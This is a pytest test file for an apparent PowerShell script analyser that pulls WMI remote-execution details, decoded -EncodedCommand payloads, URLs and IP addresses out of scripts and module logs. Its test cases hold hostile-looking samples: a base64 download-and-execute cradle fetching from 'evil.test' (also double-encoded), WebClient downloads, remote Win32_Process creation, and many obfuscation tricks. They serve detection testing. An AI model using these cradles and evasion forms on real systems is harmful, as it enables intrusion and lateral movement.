"""What is read from a script, rule by rule of PowerShell."""

from __future__ import annotations

import base64
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
from caltrop_enrich.enrich import analyse


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


START = "-Class Win32_Process -Name create"
CALL = {"wmi_cmdlet": "Invoke-WmiMethod", "wmi_class": "Win32_Process", "wmi_method": "create", "alternate_credentials": "false"}  # fmt: skip
PAYLOAD = encoded("iwr https://evil.test/a.ps1 | iex")
OUTER = encoded(f"powershell -e {PAYLOAD}")

# name -> (script, fields it must have; None: must not have)
CASES: dict[str, tuple[str, dict[str, Any]]] = {
    "plain": (f"Invoke-WmiMethod -CN H1 {START} -ArgumentList 'cmd /c dir'", {**CALL, "remote_host": "H1", "remote_command": "cmd /c dir"}),
    "any case": ("INVOKE-wmimethod -cn H1 -CLASS win32_process -nAmE Create", {"remote_host": "H1", "wmi_class": "win32_process", "wmi_method": "Create"}),
    "alias": (f"iwmi -cn H1 {START}", {**CALL, "remote_host": "H1"}),
    "module-qualified": (f"Microsoft.PowerShell.Management\\Invoke-WmiMethod -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "colon": ("Invoke-WmiMethod -CN:H1 -Class:Win32_Process -Name:create", {**CALL, "remote_host": "H1"}),
    "colon and space": (f"Invoke-WmiMethod -CN: H1 {START}", {"remote_host": "H1"}),
    "abbreviated": ("Invoke-WmiMethod -Comp H1 -Cl Win32_Process -Nam create -Arg x.exe -Cred $c", {"remote_host": "H1", "wmi_class": "Win32_Process", "remote_command": "x.exe", "alternate_credentials": "true"}),
    "ambiguous is nothing": ("Invoke-WmiMethod -C H1 -Class Win32_Process -Name create", {"remote_host": None, "wmi_class": "Win32_Process"}),
    "alias beats prefix": (f"Invoke-WmiMethod -cn H1 -ns root\\cimv2 {START}", {"remote_host": "H1", "wmi_namespace": "root\\cimv2"}),
    "switch takes no value": ("Invoke-WmiMethod -AsJob Win32_Process create 'x' -CN H1", {**CALL, "remote_command": "x"}),
    "switch with a value": ("Invoke-WmiMethod -AsJob:$true Win32_Process create 'x' -CN H1", {**CALL, "remote_command": "x"}),
    "common parameters": (f"Invoke-WmiMethod -ea SilentlyContinue -Verbose -CN H1 {START} -OutVariable o", {**CALL, "remote_host": "H1"}),
    "positional": ("Invoke-WmiMethod Win32_Process create 'calc.exe'", {**CALL, "remote_host": None, "remote_command": "calc.exe"}),
    "positional beside -Path": ("Invoke-WmiMethod -Path Win32_Process create -CN H1", {**CALL, "remote_host": "H1"}),
    "path names the host": ("Invoke-WmiMethod -Path '\\\\H9\\root\\cimv2:Win32_Process' -Name create", {"remote_host": "H9", "wmi_class": "Win32_Process", "wmi_namespace": "root\\cimv2"}),
    "bare array": (f"Invoke-WmiMethod -CN H1,H2, 'H 3' {START}", {"remote_host": ["H1", "H2", "H 3"]}),
    "array over lines": (f"Invoke-WmiMethod -CN H1,\n  H2 {START}", {**CALL, "remote_host": ["H1", "H2"]}),
    "array expression": (f"Invoke-WmiMethod -CN @('H1', \"H2\") {START}", {"remote_host": ["H1", "H2"]}),
    "array in parentheses": (f"Invoke-WmiMethod -CN ('H1','H2') {START}", {"remote_host": ["H1", "H2"]}),
    "array over lines in @( )": (f"Invoke-WmiMethod -CN @('H1'\n'H2') {START}", {"remote_host": ["H1", "H2"]}),
    "single quotes": (f"Invoke-WmiMethod -CN H1 {START} -Arg 'echo it''s $x `n'", {"remote_command": "echo it's $x `n"}),
    "double quotes": (f'Invoke-WmiMethod -CN H1 {START} -Arg "a ""b"" `"c`" `$d"', {"remote_command": 'a "b" "c" $d'}),
    "quotes inside a word": (f"Invoke-WmiMethod -CN ser'ver'\"01\" {START}", {"remote_host": "server01"}),
    "typographic quotes and dashes": ("Invoke-WmiMethod \u2013CN \u201cH1\u201d \u2014Class \u2018Win32_Process\u2019 \u2015Name create", {**CALL, "remote_host": "H1"}),
    "backtick in the name": (f"In`Voke-Wm`iMeth`od -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "backtick continues the line": ("Invoke-WmiMethod -CN H1 `\n -Class Win32_Process `\r\n  -Name create", {**CALL, "remote_host": "H1"}),
    "newline ends the command": ("Invoke-WmiMethod -CN H1\n-Class Win32_Process", {"remote_host": "H1", "wmi_class": None}),
    "semicolon ends the command": ("Invoke-WmiMethod -CN H1; Foo -Class X", {"remote_host": "H1", "wmi_class": None}),
    "pipe ends the command": (f"Invoke-WmiMethod -CN H1 {START} | Select-Object -Property Name", {**CALL, "remote_host": "H1"}),
    "comment": ("# Invoke-WmiMethod -CN H1", {"wmi_cmdlet": None}),
    "comment at the end": (f"Invoke-WmiMethod -CN H1 {START} # -CN H2", {**CALL, "remote_host": "H1"}),
    "block comment": (f"<# Invoke-WmiMethod -CN H0 #> Invoke-WmiMethod <# -CN H2 #> -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "hash inside a word": (f"Invoke-WmiMethod -CN H#1 {START}", {"remote_host": "H#1"}),
    "in a string": ("Write-Host 'Invoke-WmiMethod -CN H1'", {"wmi_cmdlet": None}),
    "an argument, no command": ("Get-Help Invoke-WmiMethod -Full", {"wmi_cmdlet": None}),
    "in a here-string": ("$t = @'\nInvoke-WmiMethod -CN H1\n'@", {"wmi_cmdlet": None}),
    "here-string argument": (f"Invoke-WmiMethod -CN H1 {START} -Arg @\"\ncmd /c $env:X \"q\"\n\"@", {"remote_command": 'cmd /c $env:X "q"'}),
    "assignment": (f"$r = Invoke-WmiMethod -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "assignment without spaces": (f"$r=Invoke-WmiMethod -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "in parentheses": (f"if ((Invoke-WmiMethod -CN H1 {START}).ReturnValue -eq 0) {{ 'ok' }}", {**CALL, "remote_host": "H1"}),
    "in a script block": (f"Invoke-Command -ScriptBlock {{ Invoke-WmiMethod -CN H1 {START} }}", {**CALL, "remote_host": "H1"}),
    "in an expandable string": (f'Write-Host "r: $(Invoke-WmiMethod -CN "H1" {START})"', {**CALL, "remote_host": "H1"}),
    "call operator": (f"& 'Invoke-WmiMethod' -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "call operator on joined text": (f"&('Invoke-'+\"WmiM\"+'ethod') -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "call operator on a format": (f"& ('{{1}}{{0}}' -f 'miMethod','Invoke-W') -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "dot operator": (f". ('Invoke-'+'WmiMethod') -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "call operator on a variable": (f"$c='Invoke-WmiMethod'; & $c -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "alias of its own": (f"Set-Alias -Name w -Value Invoke-WmiMethod; w -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "variable": (f"$h = 'H1'\nInvoke-WmiMethod -CN $h {START}", {"remote_host": "H1"}),
    "typed and scoped variable": (f"[string]$script:h = 'H1'; Invoke-WmiMethod -CN ${{H}} {START}", {"remote_host": "H1"}),
    "variable of hosts": (f"$h = 'H1', 'H2'; $h += 'H3'; Invoke-WmiMethod -CN $h {START}", {"remote_host": ["H1", "H2", "H3"]}),
    "one of an array": (f"$h = 'H1', 'H2'; Invoke-WmiMethod -CN $h[1] {START}", {"remote_host": "H2"}),
    "variable in a string": (f'$h="H1"; Invoke-WmiMethod -CN "$h.corp" {START} -Arg "net use \\\\$($h)\\c$"', {"remote_host": "H1.corp", "remote_command": "net use \\\\H1\\c$"}),
    "joined text": (f"$a = 'cmd'; Invoke-WmiMethod -CN ('H'+'1') {START} -Arg ($a + ' /c ' + 'dir')", {"remote_host": "H1", "remote_command": "cmd /c dir"}),
    "unknown variable stays": (f"Invoke-WmiMethod -CN $target {START} -Arg \"x $y\"", {"remote_host": "$target", "remote_command": "x $y"}),
    "unknown expression stays": (f"Invoke-WmiMethod -CN (Get-Content hosts.txt) {START}", {"remote_host": "(Get-Content hosts.txt)"}),
    "reassigned from the unknown": (f"$h = 'H1'; $h = Get-Thing; Invoke-WmiMethod -CN $h {START}", {"remote_host": "$h"}),
    "default of a parameter": (f"param([string]$h = 'H1', $x = 2) Invoke-WmiMethod -CN $h {START}", {"remote_host": "H1"}),
    "foreach": (f"foreach ($h in 'H1','H2') {{ Invoke-WmiMethod -CN $h {START} }}", {"remote_host": ["H1", "H2"]}),
    "ForEach-Object": (f"'H1','H2' | ForEach-Object {{ Invoke-WmiMethod -CN $_ {START} }}", {"remote_host": ["H1", "H2"]}),
    "splat of a literal": ("$p = @{ ComputerName = 'H1'; Class = 'Win32_Process'; Name = 'create' }\n$p['ArgumentList'] = 'x'\n$p.Credential = $c\nInvoke-WmiMethod @p", {"remote_host": "H1", "remote_command": "x", "alternate_credentials": "true", "wmi_unresolved": None}),
    "splat of the unknown": ("Invoke-WmiMethod @p", {"wmi_cmdlet": "Invoke-WmiMethod", "wmi_unresolved": "@p", "remote_host": None}),
    "several calls": (f"Invoke-WmiMethod -CN H1 {START} -Arg a; Invoke-WmiMethod -CN H2 {START} -Arg b", {**CALL, "remote_host": ["H1", "H2"], "remote_command": ["a", "b"]}),
    "first of the arguments": (f"Invoke-WmiMethod -CN H1 {START} -ArgumentList 'cmd.exe', 'C:\\'", {"remote_command": "cmd.exe"}),
    "no command of another class": ("Invoke-WmiMethod -CN H1 -Class StdRegProv -Name EnumKey -Arg 1, 'x'", {"wmi_class": "StdRegProv", "remote_command": None}),
    "no command of another method": ("Invoke-WmiMethod -CN H1 -Class Win32_Process -Name Terminate -Arg 1", {"wmi_method": "Terminate", "remote_command": None}),
    "credential $null": (f"Invoke-WmiMethod -CN H1 {START} -Credential $null", {"alternate_credentials": "false"}),
    "credential expression": (f"Invoke-WmiMethod -Cred (New-Object PSCredential('u', $p)) -CN H1 {START}", {"alternate_credentials": "true", "remote_host": "H1"}),
    "redirections": (f"Invoke-WmiMethod -CN H1 {START} 2>&1 >out.txt -Arg x", {**CALL, "remote_command": "x"}),
    "trailing blanks": (f"Invoke-WmiMethod {START} -CN H1   ", {**CALL, "remote_host": "H1"}),
    "CIM": ("Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'x.exe'; CurrentDirectory = 'C:\\' } -ComputerName H1", {"wmi_cmdlet": "Invoke-CimMethod", "wmi_class": "Win32_Process", "wmi_method": "Create", "remote_command": "x.exe", "remote_host": "H1"}),
    "CIM by position and alias": ("icim Win32_Process Create @{CommandLine='x.exe'} -cn H1", {"wmi_cmdlet": "Invoke-CimMethod", "wmi_method": "Create", "remote_command": "x.exe", "remote_host": "H1"}),
    "CIM session": ("$s = New-CimSession -ComputerName H1 -Credential $c; Invoke-CimMethod -CimSession $s -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='x'}", {"wmi_cmdlet": ["New-CimSession", "Invoke-CimMethod"], "remote_host": "H1", "alternate_credentials": "true"}),
    "gwmi": ("gwmi -Query 'select * from Win32_Service' -Comp H1", {"wmi_cmdlet": "Get-WmiObject", "wmi_class": "Win32_Service", "remote_host": "H1"}),
    "wmiclass": ('([wmiclass]"\\\\H1\\root\\cimv2:Win32_Process").Create("x.exe", "C:\\")', {"wmi_cmdlet": "[wmiclass]", "remote_host": "H1", "wmi_class": "Win32_Process", "wmi_method": "Create", "remote_command": "x.exe"}),
    "wmiclass in a variable": ('$h="H1"; $p = [WMICLASS]"\\\\$h\\root\\cimv2:Win32_Process"\n$p.Create("x.exe")', {"remote_host": "H1", "wmi_method": "Create", "remote_command": "x.exe"}),
    "class object of Get-WmiObject": ("(Get-WmiObject -List Win32_Process -ComputerName H1).Create('x.exe')", {"wmi_cmdlet": "Get-WmiObject", "remote_host": "H1", "wmi_method": "Create", "remote_command": "x.exe"}),
    "Invoke-Expression": (f'iex "Invoke-WmiMethod -CN H1 {START}"', {**CALL, "remote_host": "H1"}),
    "piped to Invoke-Expression": (f"'Invoke-WmiMethod -CN H1 {START}' | Invoke-Expression", {**CALL, "remote_host": "H1"}),
    "powershell -Command": (f'powershell.exe -NoProfile -Command "Invoke-WmiMethod -CN H1 {START}"', {**CALL, "remote_host": "H1"}),
    "encoded": (f"powershell -EncodedCommand {PAYLOAD}", {"decoded_command": "iwr https://evil.test/a.ps1 | iex", "url": "https://evil.test/a.ps1"}),
    "encoded, abbreviated and quoted": (f"Invoke-WmiMethod -CN H1 {START} -Arg 'powershell -nop -eNc \"{PAYLOAD}\"'", {"decoded_command": "iwr https://evil.test/a.ps1 | iex"}),
    "encoded, shortest": (f"pwsh -e {PAYLOAD}", {"decoded_command": "iwr https://evil.test/a.ps1 | iex"}),
    "encoded, -ec and a slash": (f"powershell /ec {encoded('dir')}", {"decoded_command": "dir"}),
    "encoded in encoded": (f"powershell -enc {OUTER}", {"decoded_command": [f"powershell -e {PAYLOAD}", "iwr https://evil.test/a.ps1 | iex"]}),
    "encoded in a variable": (f"$b = '{PAYLOAD}'; powershell -enc $b", {"decoded_command": "iwr https://evil.test/a.ps1 | iex"}),
    "encoded call": (f"powershell -enc {encoded(f'Invoke-WmiMethod -CN H1 {START}')}", {**CALL, "remote_host": "H1"}),
    "no payload": ("Get-Content -Encoding UTF8String1 -Path x -ErrorAction Stop", {"decoded_command": None}),
    "encoded, after a parameter that is none": (f"powershell -ep /enc {PAYLOAD}", {"url": "https://evil.test/a.ps1"}),
    "encoded, any prefix": (f"powershell -eNCo '{PAYLOAD}'; x -Exec {PAYLOAD}", {"decoded_command": "iwr https://evil.test/a.ps1 | iex"}),
    "addresses of a call": ("iwmi -CN 010.1.1.1,10.1.1.256,1.2.3,10.1.1.25,fe80::1,::a,::Add", {"ip_address": ["10.1.1.25", "fe80::1"]}),
    "not UTF-16": ("powershell -enc aGVsbG8gd29ybGQhaGVsbG8h", {"decoded_command": None}),
    "addresses": ("ping 10.1.2.3; ping fe80::1; ping 300.1.1.1; $v='4.0.30319.42000'; [io.file]::Add", {"ip_address": ["10.1.2.3", "fe80::1"]}),
    "urls": ("(New-Object Net.WebClient).DownloadString('http://a.test/x(1).ps1'); 'see https://b.test/y. app://open?u=HTTP://c.test :// x'", {"url": ["http://a.test/x(1).ps1", "https://b.test/y", "HTTP://c.test"]}),
    # Further forms of a call, each by the rule it stands on.
    "get and invoke": ("Get-WmiObject Win32_Process -CN H1 -Filter \"Name='a.exe'\" | Invoke-WmiMethod -Name Terminate", {"wmi_cmdlet": ["Get-WmiObject", "Invoke-WmiMethod"], "remote_host": "H1", "wmi_class": "Win32_Process", "wmi_method": "Terminate", "remote_command": None}),
    "class object and invoke": ("gwmi -List Win32_Process -Comp H1 | iwmi -Name Create -Arg 'calc'", {"remote_host": "H1", "wmi_class": "Win32_Process", "remote_command": "calc"}),
    "class object in a variable": ("$p = gwmi -List Win32_Process -Comp H1; $p.Create('calc')", {"remote_host": "H1", "wmi_method": "Create", "remote_command": "calc"}),
    "class of CIM and invoke": ("Get-CimClass Win32_Process -ComputerName H1 | icim -MethodName Create -Arguments @{CommandLine='a'}", {"wmi_cmdlet": ["Get-CimClass", "Invoke-CimMethod"], "remote_host": "H1", "wmi_class": "Win32_Process", "remote_command": "a"}),
    "CIM by query": ("Invoke-CimMethod -Query 'select * from Win32_Process where name=\"x\"' -MethodName Terminate -ComputerName H1", {"wmi_class": "Win32_Process", "wmi_method": "Terminate", "remote_command": None}),
    "CIM method by its alias": ("icim Win32_Process -Name Create -Arguments @{CommandLine='a'} -CN H1", {"wmi_method": "Create", "remote_command": "a", "remote_host": "H1"}),
    "CIM with a quoted key": ("icim -ClassName Win32_Process -MethodName Create -Arguments @{ 'CommandLine' = \"cmd /c x\" } -CN H1", {"remote_command": "cmd /c x"}),
    "CIM session in place": ("icim Win32_Process Create @{CommandLine='a'} -CimSession (New-CimSession -ComputerName H1)", {"remote_host": "H1", "remote_command": "a"}),
    "CIM session by the computer's name": ("icim -CimSession H1,'H2' Win32_Process Create @{CommandLine='a'}", {"remote_host": ["H1", "H2"], "remote_command": "a"}),
    "CIM session by position": ("$s = New-CimSession H1; icim -CimSession $s Win32_Process Create @{CommandLine='a'}", {"remote_host": "H1", "remote_command": "a"}),
    "instance with a table": ("New-CimInstance -ClassName Win32_Environment -Arguments @{Name='a'} -CN H1", {"wmi_cmdlet": "New-CimInstance", "wmi_class": "Win32_Environment", "remote_command": None}),
    "set an instance": ("Set-WmiInstance -Class Win32_Environment -Arguments @{Name='a'} -CN H1", {"wmi_cmdlet": "Set-WmiInstance", "remote_host": "H1", "remote_command": None}),
    "path in double quotes": ("Invoke-WmiMethod -Path \"\\\\H1\\root\\cimv2:Win32_Process\" -Name create -ArgumentList 'a'", {**CALL, "remote_host": "H1", "wmi_namespace": "root\\cimv2", "remote_command": "a"}),
    "hosts in quotes after a colon": (f"Invoke-WmiMethod -CN:'a','b' {START}", {**CALL, "remote_host": ["a", "b"]}),
    "hosts over positions": ("Invoke-WmiMethod Win32_Process create -ComputerName:'H1','H2' -ArgumentList a", {**CALL, "remote_host": ["H1", "H2"], "remote_command": "a"}),
    "position after a parameter": ("Invoke-WmiMethod -Comp H1 Win32_Process create cmd.exe", {**CALL, "remote_host": "H1", "remote_command": "cmd.exe"}),
    "end of parameters": ("iwmi -CN H1 Win32_Process create -- a", {**CALL, "remote_host": "H1", "remote_command": "a"}),
    "ambiguous everywhere": ("iwmi -Co H1 -N create -Cl Win32_Process", {"remote_host": None, "wmi_method": None, "wmi_class": "Win32_Process"}),
    "equals is no colon": ("iwmi -ComputerName=H1 -Class Win32_Process", {"remote_host": None, "wmi_class": "Win32_Process"}),
    "credential after a colon": (f"iwmi -Cred:$c -CN H1 {START}", {"remote_host": "H1", "alternate_credentials": "true"}),
    "other parameters": (f"Invoke-WmiMethod -Namespace root\\cimv2 -EnableAllPrivileges -Impersonation 3 -Auth 6 -CN H1 {START}", {**CALL, "remote_host": "H1", "wmi_namespace": "root\\cimv2"}),
    "argument with $null": ("iwmi Win32_Process -Name create -ArgumentList @('calc', $null, $null) -CN H1", {**CALL, "remote_command": "calc"}),
    "arguments in parentheses": (f'iwmi -CN H1 {START} -ArgumentList ("cmd.exe","C:\\")', {"remote_command": "cmd.exe"}),
    "escaped quotes": (f'iwmi {START} -ArgumentList "powershell -c `"iwr http://x.test/a`"" -CN H1', {"remote_command": 'powershell -c "iwr http://x.test/a"', "url": "http://x.test/a"}),
    "comments between": ("iwmi -CN <# -CN H2 #> H1 <# x #> Win32_Process create a # y", {**CALL, "remote_host": "H1", "remote_command": "a"}),
    "single here-string in a variable": ("$a=@'\ncmd /c x\n'@; iwmi -CN H1 Win32_Process create $a", {"remote_command": "cmd /c x"}),
    "backtick before a letter that it changes": ("In`voke-WmiMethod -CN H1", {"wmi_cmdlet": None}),
    "backtick before e, which 5.1 leaves": (f"Invok`e-WmiM`ethod -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "backtick before e in strings": ('iwmi -CN "H`e1" -Class "Win32_Proc`ess" -Name "Cr`eate" -Arg "`u{41}"', {"remote_host": "He1", "wmi_class": "Win32_Process", "remote_command": "u{41}"}),
    "backtick in a braced variable": (f"${{co`mput`er}}='H1'; iwmi -CN ${{computer}} {START}", {**CALL, "remote_host": "H1"}),
    "subexpression in the name": (f"& \"Invoke-$('Wmi')Method\" -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "found by Get-Command": (f"& (Get-Command Invoke-WmiMethod) -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "found by Get-Command, named": (f"& (gcm -Name ('iw'+'mi')) -CN H1 {START}", {**CALL, "remote_host": "H1"}),
    "splat by alias and prefix": ("$a=@{CN='H1';Class='Win32_Process';Name='create';Arg='a'}\niwmi @a", {**CALL, "remote_host": "H1", "remote_command": "a"}),
    "splat of added tables": ("$p=@{ComputerName='H1'}; $p += @{Class='Win32_Process';Name='create'}; iwmi @p", {**CALL, "remote_host": "H1"}),
    "splat of a table added to": ("$p=@{}; $p.Add('ComputerName','H1'); iwmi @p -Class Win32_Process -Name create", {**CALL, "remote_host": "H1"}),
    "splat of an array": ("$a='Win32_Process','create','calc'; iwmi @a -CN H1", {**CALL, "remote_host": "H1", "remote_command": "calc", "wmi_unresolved": None}),
    "wmiclass of this computer": ("([wmiclass]'Win32_Process').Create('calc')", {"remote_host": None, "wmi_class": "Win32_Process", "remote_command": "calc"}),
    "wmiclass by its full name": ("([System.Management.ManagementClass]'\\\\H1\\root\\cimv2:Win32_Process').create(\"calc\")", {"wmi_cmdlet": "[wmiclass]", "remote_host": "H1", "remote_command": "calc"}),
    "wmiclass as a variable's type": ("[wmiclass]$c = '\\\\H1\\root\\cimv2:Win32_Process'; $c.Create('calc')", {"remote_host": "H1", "wmi_class": "Win32_Process", "remote_command": "calc"}),
    "InvokeMethod": ("([wmiclass]\"\\\\H1\\root\\cimv2:Win32_Process\").InvokeMethod('Create', 'calc')", {"wmi_method": "Create", "remote_command": "calc", "remote_host": "H1"}),
    "loop over @( )": (f"foreach($c in @('H1','H2')){{iwmi -CN $c {START}}}", {**CALL, "remote_host": ["H1", "H2"]}),
    "loop by $PSItem": (f"'H1','H2' | ForEach-Object -Process {{ iwmi -CN $PSItem {START} }}", {**CALL, "remote_host": ["H1", "H2"]}),
    "loop, in a string": (f"foreach ($h in 'a','b') {{ iwmi -CN \"$h.corp\" {START} }}", {**CALL, "remote_host": ["a.corp", "b.corp"]}),
    "loop, in joined text": (f"'a','b' | %{{ iwmi -CN ($_ + '.corp') {START} }}", {**CALL, "remote_host": ["a.corp", "b.corp"]}),
    "loops in a loop": (f"foreach ($h in 'a','b') {{ foreach ($d in 'x','y') {{ iwmi -CN \"$h.$d\" {START} }} }}", {**CALL, "remote_host": ["a.x", "a.y", "b.x", "b.y"]}),
    "loop, in a path": ("foreach ($h in 'a','b') { ([wmiclass]\"\\\\$h\\root\\cimv2:Win32_Process\").Create('x') }", {"remote_host": ["a", "b"], "wmi_class": "Win32_Process", "remote_command": "x"}),
    "array in a string, no loop": (f"$h = 'a','b'; iwmi -CN \"$h\" {START}", {**CALL, "remote_host": "a b"}),
    "both branches": (f"if($true){{iwmi -CN H1 {START}}}else{{iwmi -CN H2 {START}}}", {**CALL, "remote_host": ["H1", "H2"]}),
    "cast to void": (f"[void](iwmi -CN H1 {START})", {**CALL, "remote_host": "H1"}),
    "in a job": (f"Start-Job {{ iwmi -CN H1 {START} }}", {**CALL, "remote_host": "H1"}),
    "in a try": (f"try {{ iwmi -CN H1 {START} }} catch {{ }}", {**CALL, "remote_host": "H1"}),
    "the same twice": (f"iwmi -CN H1 {START} -Arg a; iwmi -CN H1 {START} -Arg a", {**CALL, "remote_host": "H1", "remote_command": "a"}),
}  # fmt: skip

MODULE_LOG = (
    'CommandInvocation(Invoke-WmiMethod): "Invoke-WmiMethod"\r\n'
    'ParameterBinding(Invoke-WmiMethod): name="ComputerName"; value="H1, H2"\r\n'
    'ParameterBinding(Invoke-WmiMethod): name="Class"; value="Win32_Process"\r\n'
    'ParameterBinding(Invoke-WmiMethod): name="Name"; value="create"\r\n'
    'ParameterBinding(Invoke-WmiMethod): name="ArgumentList"; value="cmd /c "echo a"\r\necho b"\r\n'
    'CommandInvocation(Out-Default): "Out-Default"\r\n'
    "\r\nContext:\r\n        Host Application = powershell -enc " + PAYLOAD + "\r\n"
)
CASES["module log"] = (MODULE_LOG, {**CALL, "remote_host": ["H1", "H2"], "remote_command": 'cmd /c "echo a"\r\necho b'})
CASES["module log of Invoke-Expression"] = (
    'CommandInvocation(Invoke-Expression): "Invoke-Expression"\n'
    f'ParameterBinding(Invoke-Expression): name="Command"; value="$null = Invoke-WmiMethod -CN @("H1") {START}"\n',
    {**CALL, "remote_host": "H1"},
)
CASES["module log of a table"] = (
    'ParameterBinding(Invoke-CimMethod): name="Arguments"; value="System.Collections.Hashtable"\n',
    {"wmi_cmdlet": "Invoke-CimMethod", "remote_command": None, "wmi_unresolved": "Arguments"},
)


def mismatches(fields: dict[str, Any], expected: dict[str, Any]) -> dict[str, Any]:
    return {name: (fields.get(name), value) for name, value in expected.items() if fields.get(name) != value}


@pytest.mark.parametrize("name", CASES)
def test_script(name: str) -> None:
    script, expected = CASES[name]
    result = analyse(script)
    assert not result.error
    assert not mismatches(result.fields, expected), result.fields


RUNNER = """
import json, sys
sys.path.insert(0, sys.argv[1])
from caltrop_enrich.enrich import analyse
print(json.dumps([analyse(script)._asdict() for script in json.load(sys.stdin)]))
"""


def test_every_interpreter_reads_the_same(python: Path, root: Path) -> None:
    scripts = [script for script, _ in CASES.values()]
    done = subprocess.run(
        [str(python), "-c", RUNNER, str(root / "app" / "bin")],
        input=json.dumps(scripts), capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert json.loads(done.stdout) == [analyse(script)._asdict() for script in scripts]
